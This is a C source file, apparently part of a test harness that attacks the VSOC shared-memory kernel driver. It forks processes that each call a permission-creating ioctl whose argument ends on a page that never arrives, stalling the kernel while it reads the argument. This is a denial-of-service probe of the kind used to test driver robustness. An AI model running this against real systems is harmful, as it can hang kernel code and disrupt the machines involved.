/* SPDX-License-Identifier: Apache-2.0 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attacker.h"
#include "vsoc_shm.h"

/* slow-claims DATA PAGE...: claims whose last word, which the kernel does not bring, lies in a page that
 * never comes; each in a process. Says what came of each, as it comes, and stays. */
int attack_slow_claims(int argc, char **argv) {
  int fd = open_or_fail(argv[1], O_RDWR);
  say("begins");
  for (int i = 2; i < argc; i++) {
    pid_t child = fork();
    if (child < 0) fail("fork");
    if (child > 0) continue;
    char *edge = edge_of_slow_page(argv[i]) + 4096;
    int result = ioctl(fd, VSOC_CREATE_FD_SCOPED_PERMISSION,
                       edge - sizeof(struct fd_scoped_permission));
    say("%s", result < 0 ? strerrorname_np(errno) : "claimed");
    while (1) pause();
  }
  say("started");
  while (1) pause();
}
